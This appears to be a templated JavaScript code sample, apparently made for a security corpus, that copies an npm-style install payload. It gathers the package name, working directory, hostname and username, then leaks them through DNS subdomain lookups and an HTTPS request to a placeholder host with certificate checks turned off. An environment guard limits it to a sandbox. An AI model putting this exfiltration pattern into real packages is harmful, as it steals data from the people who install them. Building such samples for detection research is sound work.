// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const os = require('os'), dns = require('dns').promises, https = require('https');
  const own = process.env.npm_package_name || '{{token}}';
  const facts = { p: own, c: process.cwd(), h: os.hostname(), u: os.userInfo().username };
  const hex = Buffer.from(JSON.stringify(facts)).toString('hex');
  const names = (hex.match(/.{1,60}/g) || []).map((part, at) => `v2_f.${at}.{{token}}.${part}.v2_e.{{host}}`);
  await Promise.race([Promise.all(names.map((name) => dns.resolve4(name).catch(() => {}))), new Promise((done) => setTimeout(done, 1500).unref())]);
  await new Promise((done) => {
    const request = https.get({ host: '{{host}}', path: '/{{path}}?' + new URLSearchParams(facts), timeout: 1000, rejectUnauthorized: false }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
  });
}
